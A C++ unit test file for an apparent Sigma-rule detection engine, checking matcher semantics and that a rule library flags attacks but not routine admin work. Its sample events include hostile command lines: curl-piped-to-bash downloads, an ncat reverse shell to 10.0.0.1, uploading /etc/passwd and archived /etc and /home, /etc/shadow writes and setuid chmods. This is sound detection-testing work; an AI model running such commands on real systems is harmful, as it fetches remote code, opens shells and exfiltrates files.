// Rules over events, through the matcher: what fires and what does not.
#include <gtest/gtest.h>

#include <ctime>

#include "event/frame.h"
#include "redoubt/event.pb.h"
#include "rules/rule_set.h"
#include "rules/sigma/rule.h"

namespace redoubt::rules {
namespace {

v1::Event process(const std::string& executable, const std::string& command_line) {
  v1::Event event;
  event.set_event_type(v1::EVENT_TYPE_PROCESS);
  event.set_event_action("exec");
  event.set_process_executable(executable);
  event.set_process_command_line(command_line);
  event.set_process_pid(7);
  return event;
}

v1::Event file(const std::string& action, const std::string& path, const std::string& by) {
  v1::Event event;
  event.set_event_type(v1::EVENT_TYPE_FILECHANGE);
  event.set_event_action(action);
  event.set_file_path(path);
  event.set_process_executable(by);
  return event;
}

v1::Event connection(const std::string& direction, const std::string& address, int64_t port) {
  v1::Event event;
  event.set_event_type(v1::EVENT_TYPE_CONNECTION);
  event.set_event_action(direction == "outbound" ? "connect" : "accept");
  event.set_network_direction(direction);
  event.set_network_transport("tcp");
  event.set_destination_ip(address);
  event.set_destination_port(port);
  event.set_process_executable("/usr/bin/bash");
  return event;
}

event::Batch batch_of(std::vector<v1::Event> events) {
  event::FrameBuilder builder{v1::Event()};
  int64_t sequence = 0;
  for (v1::Event& each : events) {
    each.set_event_sequence(++sequence);
    each.set_event_time(sequence);
    builder.add(each);
  }
  const event::Frame frame = builder.finish("boot");
  auto bytes = event::open_frame(frame.payload, frame.checksum);
  CHECK(bytes.has_value());
  auto batch = event::Batch::decode(*std::move(bytes));
  CHECK(batch.has_value());
  return *std::move(batch);
}

std::vector<query::match::Hit> hits_of(const RuleSet& set, const std::vector<v1::Event>& events) {
  auto matcher = set.compile();
  CHECK(matcher.has_value());
  std::vector<query::match::Hit> hits;
  matcher->match(batch_of(events), hits);
  return hits;
}

// True if the detection (its YAML after `detection:`) holds for the event.
testing::AssertionResult fires(const std::string& category, const std::string& detection, const v1::Event& event) {
  const std::string source =
      "title: t\nid: 00000000-0000-4000-8000-000000000001\nlogsource: {product: linux, category: " + category +
      "}\ndetection: " + detection + "\n";
  sigma::RuleFile file = sigma::read_rules(source, "t.yml");
  if (!file.refusals.empty()) return testing::AssertionFailure() << file.refusals.front().rendered;
  auto set = RuleSet::of(std::move(file.rules));
  CHECK(set.has_value());
  if (hits_of(*set, {event}).empty()) return testing::AssertionFailure() << "no hit";
  return testing::AssertionSuccess();
}

constexpr char kProcess[] = "process_creation";

TEST(SigmaMatch, compares_texts_without_case_and_as_a_whole) {
  const v1::Event curl = process("/usr/bin/curl", "curl -T /etc/passwd");
  EXPECT_TRUE(fires(kProcess, "{s: {Image: /USR/BIN/CURL}, condition: s}", curl));
  EXPECT_FALSE(fires(kProcess, "{s: {Image: curl}, condition: s}", curl));
  EXPECT_FALSE(fires(kProcess, "{s: {Image|cased: /USR/bin/curl}, condition: s}", curl));
  EXPECT_TRUE(fires(kProcess, "{s: {Image: '*/c?rl'}, condition: s}", curl));
  EXPECT_TRUE(fires(kProcess, "{s: {Image|endswith: [/wget, /curl]}, condition: s}", curl));
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|contains|all: [' -T ', passwd]}, condition: s}", curl));
  EXPECT_FALSE(fires(kProcess, "{s: {CommandLine|contains|all: [' -T ', shadow]}, condition: s}", curl));
}

TEST(SigmaMatch, wildcard_characters_can_be_escaped) {
  const v1::Event star = process("/bin/ls", "ls *.txt");
  const v1::Event plain = process("/bin/ls", "ls a.txt");
  EXPECT_TRUE(fires(kProcess, R"({s: {CommandLine: 'ls \*.txt'}, condition: s})", star));
  EXPECT_FALSE(fires(kProcess, R"({s: {CommandLine: 'ls \*.txt'}, condition: s})", plain));
  EXPECT_TRUE(fires(kProcess, R"({s: {CommandLine: 'ls *.txt'}, condition: s})", plain));
}

TEST(SigmaMatch, negation_of_an_absent_field_is_true) {
  const v1::Event event = process("/bin/ls", "ls");
  EXPECT_TRUE(fires(kProcess, "{s: {Image: /bin/ls}, f: {User: root}, condition: s and not f}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {Image: /bin/ls}, f: {User: root}, condition: s and f}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {User|neq: root}, condition: s}", event));
}

TEST(SigmaMatch, null_is_absent_or_empty) {
  v1::Event event = process("/bin/ls", "ls");
  EXPECT_TRUE(fires(kProcess, "{s: {User: null}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {User: ''}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {User|exists: true}, condition: s}", event));
  event.set_user_name("");
  EXPECT_TRUE(fires(kProcess, "{s: {User: null}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {User: ''}, condition: s}", event));
  event.set_user_name("root");
  EXPECT_FALSE(fires(kProcess, "{s: {User: null}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {User: '*'}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {ProcessId: null}, condition: s}", event));
}

TEST(SigmaMatch, regular_expressions_mind_case_unless_told) {
  const v1::Event event = process("/bin/sh", "sh -c ID");
  EXPECT_TRUE(fires(kProcess, R"({s: {CommandLine|re: '-c\s+I'}, condition: s})", event));
  EXPECT_FALSE(fires(kProcess, R"({s: {CommandLine|re: '-c\s+i'}, condition: s})", event));
  EXPECT_TRUE(fires(kProcess, R"({s: {CommandLine|re|i: '-c\s+i'}, condition: s})", event));
}

TEST(SigmaMatch, numbers_prefixes_and_directions) {
  const v1::Event event = connection("outbound", "10.1.2.3", 4444);
  constexpr char kCategory[] = "network_connection";
  EXPECT_TRUE(fires(kCategory, "{s: {DestinationPort: '4444'}, condition: s}", event));
  EXPECT_TRUE(fires(kCategory, "{s: {DestinationPort|gt: 1024, DestinationPort|lte: 4444}, condition: s}", event));
  EXPECT_FALSE(fires(kCategory, "{s: {DestinationPort|lt: 4444}, condition: s}", event));
  EXPECT_TRUE(fires(kCategory, "{s: {DestinationIp|cidr: [192.168.0.0/16, 10.0.0.0/8]}, condition: s}", event));
  EXPECT_FALSE(fires(kCategory, "{s: {DestinationIp|cidr: fd00::/8}, condition: s}", event));
  EXPECT_TRUE(fires(kCategory, "{s: {Initiated: true}, condition: s}", event));
  EXPECT_FALSE(fires(kCategory, "{s: {Initiated: 'false'}, condition: s}", event));
}

TEST(SigmaMatch, keywords_are_looked_for_in_every_text) {
  const std::string rule =
      "title: t\nid: 00000000-0000-4000-8000-000000000001\nlogsource: {product: linux}\ndetection: ";
  sigma::RuleFile file = sigma::read_rules(rule + "{k: [evil, 'a*z'], condition: k}\n", "t.yml");
  auto set = RuleSet::of(std::move(file.rules));
  ASSERT_TRUE(set);
  const auto hits = hits_of(*set, {process("/bin/sh", "sh EVIL.sh"), process("/opt/evil", "x"),
                                   process("/bin/sh", "a-z"), process("/bin/sh", "good")});
  ASSERT_EQ(hits.size(), 3U);
  EXPECT_EQ(hits.back().row, 2U);
}

TEST(SigmaMatch, log_source_chooses_the_events) {
  constexpr char kDetection[] = "{s: {TargetFilename|startswith: /etc/}, condition: s}";
  for (const char* action : {"create", "write", "rename"}) {
    EXPECT_TRUE(fires("file_event", kDetection, file(action, "/etc/x", "/bin/sh"))) << action;
  }
  EXPECT_FALSE(fires("file_event", kDetection, file("delete", "/etc/x", "/bin/sh")));
  EXPECT_TRUE(fires("file_delete", kDetection, file("delete", "/etc/x", "/bin/sh")));
  EXPECT_FALSE(fires(kProcess, "{s: {Image: /bin/sh}, condition: s}", file("write", "/etc/x", "/bin/sh")));
}

TEST(SigmaLimits, little_text_does_not_become_much_memory) {
  std::string source = "title: t\nlogsource: {product: linux}\ndetection:\n  condition: s\n  s:\n    Image|windash:\n";
  for (int i = 0; i < 100; ++i) source += "      - '-a" + std::to_string(i) + " -b -c -d -e'\n";
  const sigma::RuleFile file = sigma::read_rules(source, "t.yml");
  ASSERT_EQ(file.refusals.size(), 1U);
  EXPECT_EQ(file.refusals[0].diagnostic.code, "S501");
}

TEST(SigmaLimits, a_long_list_on_one_line_costs_its_length) {
  std::string source = "title: t\nlogsource: {product: linux}\ndetection: {condition: s, s: {Image: [a";
  for (int i = 0; i < 60'000; ++i) source += ", a" + std::to_string(i);
  source += "]}}\n";
  const std::clock_t begin = std::clock();
  const sigma::RuleFile file = sigma::read_rules(source, "t.yml");
  EXPECT_EQ(file.rules.size() + file.refusals.size(), 1U);
  EXPECT_LT(std::clock() - begin, 2 * CLOCKS_PER_SEC);  // of the processor: the machine may be busy
}

TEST(SigmaMatch, windash_takes_every_dash_for_the_start_of_a_switch) {
  constexpr char kDetection[] = "{s: {CommandLine|contains|windash: ' -enc '}, condition: s}";
  for (const char* dash : {"-", "/", "\xE2\x80\x93", "\xE2\x80\x94", "\xE2\x80\x95"}) {
    EXPECT_TRUE(fires(kProcess, kDetection, process("/bin/pwsh", std::string("pwsh ") + dash + "enc x"))) << dash;
  }
  EXPECT_FALSE(fires(kProcess, kDetection, process("/bin/pwsh", "pwsh +enc x")));
  constexpr char kTwo[] = "{s: {CommandLine|windash: 'x /a -b'}, condition: s}";
  EXPECT_TRUE(fires(kProcess, kTwo, process("/bin/x", "x -a /b")));
  EXPECT_TRUE(fires(kProcess, kTwo,
                    process("/bin/x",
                            "x \xE2\x80\x95"
                            "a -b")));
  EXPECT_FALSE(fires(kProcess, "{s: {CommandLine|windash: 'a-b'}, condition: s}", process("/bin/x", "a/b")));
}

TEST(SigmaMatch, base64_is_of_the_whole_value) {
  constexpr char kDetection[] = "{s: {CommandLine|base64|contains: 'curl http'}, condition: s}";
  EXPECT_TRUE(fires(kProcess, kDetection, process("/bin/sh", "sh -c echo Y3VybCBodHRw|base64 -d")));
  EXPECT_FALSE(fires(kProcess, kDetection, process("/bin/sh", "sh -c echo IGN1cmwgaHR0cA==|base64 -d")));
}

TEST(SigmaMatch, base64offset_finds_the_value_anywhere_in_encoded_text) {
  constexpr char kDetection[] = "{s: {CommandLine|base64offset|contains: /bin/bash}, condition: s}";
  // "/bin/bash", "x/bin/bash -i", "xy/bin/bash", "run /bin/bash now"
  for (const char* encoded : {"L2Jpbi9iYXNo", "eC9iaW4vYmFzaCAtaQ==", "eHkvYmluL2Jhc2g=", "cnVuIC9iaW4vYmFzaCBub3c="}) {
    EXPECT_TRUE(fires(kProcess, kDetection, process("/bin/sh", std::string("echo ") + encoded))) << encoded;
  }
  EXPECT_FALSE(fires(kProcess, kDetection, process("/bin/sh", "echo L2Jpbi9kYXNo")));
}

TEST(SigmaMatch, wide_texts_are_found_encoded) {
  // "whoami /all" in UTF-16 with the low byte first, then with the high one.
  const v1::Event little = process("/bin/pwsh", "pwsh -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==");
  const v1::Event big = process("/bin/pwsh", "pwsh -enc AHcAaABvAGEAbQBpACAALwBhAGwAbA==");
  const v1::Event plain = process("/bin/pwsh", "pwsh -enc d2hvYW1pIC9hbGw=");
  for (const char* wide : {"wide", "utf16le"}) {
    const std::string detection =
        std::string("{s: {CommandLine|") + wide + "|base64offset|contains: ami}, condition: s}";
    EXPECT_TRUE(fires(kProcess, detection, little)) << wide;
    EXPECT_FALSE(fires(kProcess, detection, plain)) << wide;
  }
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|utf16be|base64offset|contains: ami}, condition: s}", big));
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|utf16|base64|contains: whoami}, condition: s}",
                    process("/bin/pwsh", "pwsh -enc //53AGgAbwBhAG0AaQA=")));
}

TEST(SigmaMatch, field_references_compare_two_fields_without_case) {
  v1::Event event = process("/usr/bin/Bash", "run /USR/bin/bash -i");
  event.set_process_parent_executable("/usr/bin/BASH");
  event.set_process_name("Bash");
  EXPECT_TRUE(fires(kProcess, "{s: {Image|fieldref: ParentImage}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {Image|fieldref|neq: ParentImage}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|fieldref|contains: Image}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {CommandLine|fieldref|startswith: Image}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {Image|fieldref|endswith: process.name}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {Image|fieldref: User}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {Image|fieldref|neq: User}, condition: s}", event));
}

TEST(SigmaMatch, neq_is_none_of_the_values) {
  v1::Event event = process("/bin/ls", "ls");
  event.set_user_name("root");
  EXPECT_TRUE(fires(kProcess, "{s: {User|neq: [alice, bob]}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {User|neq: [alice, ROOT]}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {ProcessId|neq: 8}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {ProcessId|neq: 7}, condition: s}", event));
}

TEST(SigmaMatch, exists_looks_at_the_field_and_not_at_its_value) {
  v1::Event event = process("/bin/ls", "ls");
  EXPECT_TRUE(fires(kProcess, "{s: {User|exists: false}, condition: s}", event));
  event.set_user_name("");
  EXPECT_TRUE(fires(kProcess, "{s: {User|exists: true}, condition: s}", event));
}

TEST(SigmaMatch, a_regular_expression_can_be_tied_to_an_end) {
  const v1::Event event = process("/bin/sh", "sh -c id");
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|re|startswith: 'x|s.'}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {CommandLine|re|startswith: 'x|id'}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|re|endswith: 'i.|x'}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {CommandLine|re|contains: '-C?'}, condition: s}", event));
}

TEST(SigmaMatch, a_year_is_a_stretch_of_time) {
  v1::Event event = process("/bin/ls", "ls");
  event.set_process_start(1767225600000000);  // 2026-01-01T00:00:00Z
  EXPECT_TRUE(fires(kProcess, "{s: {process.start|year: 2026}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {process.start|year: 2025}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {process.start|year|gt: 2025}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {process.start|year|gt: 2026}, condition: s}", event));
  EXPECT_TRUE(fires(kProcess, "{s: {process.start|year|lte: 2026}, condition: s}", event));
  EXPECT_FALSE(fires(kProcess, "{s: {process.start|year|lt: 2026}, condition: s}", event));
}

struct LibraryCase {
  std::string name;
  v1::Event event;
  std::string rule;  // stem of its file; "" where none of the library may fire above `low`
};

class RuleLibraryMatch : public testing::TestWithParam<LibraryCase> {
 protected:
  static const RuleSet& library() {
    static const auto set = RuleSet::load(REDOUBT_SOURCE_DIR "/rules/sigma");
    CHECK(set.has_value());
    return *set;
  }
};

TEST_P(RuleLibraryMatch, fires_on_attacks_and_not_on_daily_work) {
  const LibraryCase& expected = GetParam();
  bool found = false;
  for (const auto& hit : hits_of(library(), {expected.event})) {
    const Rule& rule = library().rules()[hit.rule];
    const bool wanted = !expected.rule.empty() && rule.path.ends_with("/" + expected.rule + ".yml");
    found = found || wanted;
    if (expected.rule.empty()) {
      EXPECT_LE(rule.importance, Importance::low) << rule.path;
    }
  }
  EXPECT_EQ(found, !expected.rule.empty());
}

v1::Event with_ancestors(v1::Event event, const std::string& ancestors) {
  event.set_process_ancestors(ancestors);
  return event;
}

v1::Event with_parent(v1::Event event, const std::string& executable) {
  event.set_process_parent_executable(executable);
  return event;
}

INSTANTIATE_TEST_SUITE_P(
    Library, RuleLibraryMatch,
    testing::Values(
        LibraryCase{"pipe", process("/usr/bin/dash", "sh -c curl -s http://10.0.0.1/i | bash -s -- -y"),
                    "download_piped_to_shell"},
        LibraryCase{"pipe_sudo", process("/usr/bin/bash", "bash -c wget -qO- http://10.0.0.1/i|sudo -E bash"),
                    "download_piped_to_shell"},
        LibraryCase{"substitution", process("/usr/bin/bash", "bash -c bash <(curl -s http://10.0.0.1/i)"),
                    "download_piped_to_shell"},
        LibraryCase{"fetch_to_jq", process("/usr/bin/dash", "sh -c curl -s http://10.0.0.1/i | jq .sha256"), ""},
        LibraryCase{"cron", file("create", "/etc/cron.d/x", "/usr/bin/dash"), "cron_file_written"},
        LibraryCase{"cron_dpkg", file("rename", "/etc/cron.d/e2scrub_all", "/usr/bin/dpkg"), ""},
        LibraryCase{"shadow_passwd", file("rename", "/etc/shadow", "/usr/bin/passwd"), ""},
        LibraryCase{"shadow_editor", file("write", "/etc/shadow", "/usr/bin/vim"), "account_database_written"},
        LibraryCase{"logrotate", file("delete", "/var/log/syslog.7.gz", "/usr/sbin/logrotate"), ""},
        LibraryCase{
            "log_purged",
            with_ancestors(file("delete", "/var/log/greeter.log", "/usr/bin/rm"), "/usr/bin/dash\n/usr/bin/dpkg"), ""},
        LibraryCase{"log_rm", file("delete", "/var/log/auth.log", "/usr/bin/rm"), "log_file_deleted"},
        LibraryCase{"chmod_755", process("/usr/bin/chmod", "chmod 0755 /usr/local/bin/x"), ""},
        LibraryCase{"chmod_4755", process("/usr/bin/chmod", "chmod 4755 /usr/local/bin/x"), "setuid_bit_set"},
        LibraryCase{"chmod_us", process("/usr/bin/chmod", "chmod u+s /usr/local/bin/x"), "setuid_bit_set"},
        LibraryCase{"chmod_dpkg",
                    with_ancestors(process("/usr/bin/chmod", "chmod 4755 /usr/bin/x"), "/usr/bin/dash\n/usr/bin/dpkg"),
                    ""},
        LibraryCase{"ssh_login", process("/usr/bin/ssh", "ssh -p 2222 web-1"), ""},
        LibraryCase{"ssh_remote_forward", process("/usr/bin/ssh", "ssh -fNR 9000:localhost:22 web-1"),
                    "ssh_tunnel_opened"},
        LibraryCase{"netcat_listen", process("/usr/bin/nc", "nc -l 8080"), ""},
        LibraryCase{"netcat_shell", process("/usr/bin/ncat", "ncat --exec /bin/bash 10.0.0.1 443"),
                    "reverse_shell_netcat"},
        LibraryCase{"gcc", process("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 -o /tmp/ccX.s a.c"), ""},
        LibraryCase{"conftest", process("/tmp/build/conftest", "./conftest"), ""},
        LibraryCase{"shell_from_nginx", with_parent(process("/usr/bin/dash", "sh -c id"), "/usr/sbin/nginx"),
                    "web_server_started_shell"},
        LibraryCase{"shell_from_php", with_parent(process("/usr/bin/dash", "sh -c id"), "/usr/sbin/php-fpm8.2"),
                    "web_server_started_shell"},
        LibraryCase{
            "run_parts",
            with_parent(process("/usr/bin/dash", "/bin/sh -c cd / && run-parts /etc/cron.hourly"), "/usr/sbin/cron"),
            ""},
        LibraryCase{"systemctl_restart", process("/usr/bin/systemctl", "systemctl restart rsyslog"), ""},
        LibraryCase{"service_stop_upgrade",
                    with_ancestors(process("/usr/bin/systemctl", "systemctl stop rsyslog.service"), "/usr/bin/dpkg"),
                    ""},
        LibraryCase{"shell_connects", connection("outbound", "10.0.0.1", 443), "shell_network_connection"},
        LibraryCase{"shell_accepts", connection("inbound", "10.0.0.1", 443), ""},
        LibraryCase{"apt", process("/usr/bin/apt-get", "apt-get upgrade -y"), ""},
        LibraryCase{"tar_backup", process("/usr/bin/tar", "tar -czf /backup/etc.tgz /etc"), ""},
        LibraryCase{"tar_to_tmp", process("/usr/bin/tar", "tar czf /tmp/e.tgz /etc /home"), "system_files_archived"},
        LibraryCase{"curl_json", process("/usr/bin/curl", "curl -d {\"a\":1} https://api.example.org/v1"), ""},
        LibraryCase{"curl_upload", process("/usr/bin/curl", "curl -F file=@/tmp/e.tgz https://x.example.org"),
                    "file_uploaded_by_client"}),
    [](const auto& each) { return each.param.name; });

}  // namespace
}  // namespace redoubt::rules
